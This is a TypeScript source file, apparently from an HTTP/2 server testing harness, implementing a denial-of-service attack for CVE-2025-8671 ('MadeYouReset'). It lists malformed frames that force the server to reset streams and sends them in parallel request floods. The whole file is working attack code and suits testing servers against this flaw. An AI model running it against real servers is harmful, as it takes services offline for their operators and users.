import {
  data,
  encodeFields,
  FRAME,
  frame,
  headers,
  MAX_31_BITS,
  windowUpdate,
} from "../../support/clients/http2-frames.ts";
import { type Attack, inParallel } from "../attack.ts";
import { keepSession } from "../raw-session.ts";
import { requestOf } from "../requests.ts";

const CONNECTIONS = 2;
const AT_ONCE = 20;

/** Frames that force the server to reset the stream, or to close the connection (RFC 9113). */
const TRIGGERS: readonly ((id: number, block: Buffer, body: Buffer) => Buffer[])[] = [
  (id) => [windowUpdate(id, 0)],
  (id) => [windowUpdate(id, MAX_31_BITS), windowUpdate(id, MAX_31_BITS)],
  (id, _block, body) => [data(id, body, { endStream: true }), data(id, body, { endStream: true })],
  (id, block, body) => [data(id, body, { endStream: true }), headers(id, block, { endStream: true })],
  (id) => [frame(FRAME.priority, 0, id, Buffer.alloc(4))],
  (id) => {
    const dependsOnItself = Buffer.alloc(5);
    dependsOnItself.writeUInt32BE(id);
    return [frame(FRAME.priority, 0, id, dependsOnItself)];
  },
  (id) => [frame(FRAME.windowUpdate, 0, id, Buffer.alloc(3))],
  // PADDED, with more padding than the frame has bytes.
  (id) => [frame(FRAME.data, 0x8, id, Buffer.of(255))],
  // RFC 9113, section 8.2.1: field names are in lower case.
  (id) => [headers(id, encodeFields([["X-Trailer", "capitals"]]), { endStream: true })],
];

/**
 * CVE-2025-8671: the attacker makes the server itself reset streams, after their requests have started to cost time.
 */
export const madeYouReset: Attack = async (context) => {
  let turn = 0;
  await inParallel(CONNECTIONS, () =>
    keepSession(context, {}, async (session) => {
      const trigger = TRIGGERS[turn++ % TRIGGERS.length];
      const { fields, body = Buffer.alloc(0) } = requestOf("grpc");
      const block = encodeFields(fields);
      // The maximum time per trigger, so that each one is used.
      const changesAt = performance.now() + 1_000;
      while (session.isOpen() && context.isGoing() && performance.now() < changesAt) {
        const parts: Buffer[] = [];
        for (let made = 0; made < AT_ONCE; made++) {
          const id = session.nextId();
          parts.push(headers(id, block, { endStream: false }), ...(trigger?.(id, block, body) ?? []));
        }
        await session.write(...parts);
        context.count("requests", AT_ONCE);
      }
    }),
  );
};
